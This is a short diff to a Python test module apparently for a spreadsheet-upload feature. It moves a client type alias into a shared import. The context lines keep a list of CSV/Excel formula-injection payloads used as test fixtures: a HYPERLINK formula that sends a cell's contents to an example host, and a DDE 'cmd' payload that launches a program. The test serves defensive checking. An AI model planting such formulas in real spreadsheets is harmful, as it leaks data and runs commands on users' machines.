@@ -5,7 +5,6 @@ from __future__ import annotations
 
 import io
 import zipfile
-from collections.abc import Callable
 from pathlib import Path
 
 import openpyxl
@@ -21,9 +20,9 @@ from cchc.lib.tests.hostile import doctype_xlsx
 from cchc.tasks.actions import accept_task
 from cchc.tasks.models import Evidence, Plan, Task
 from cchc.tasks.tests.conftest import MakeTask, write_xlsx
+from cchc.testing import Clients
 from conftest import Province
 
-Clients = Callable[[User], Client]
 FORMULAS = [
     '=HYPERLINK("http://example.com/?leak="&A1,"Bấm vào đây")',
     "+cmd|' /C calc'!A0",
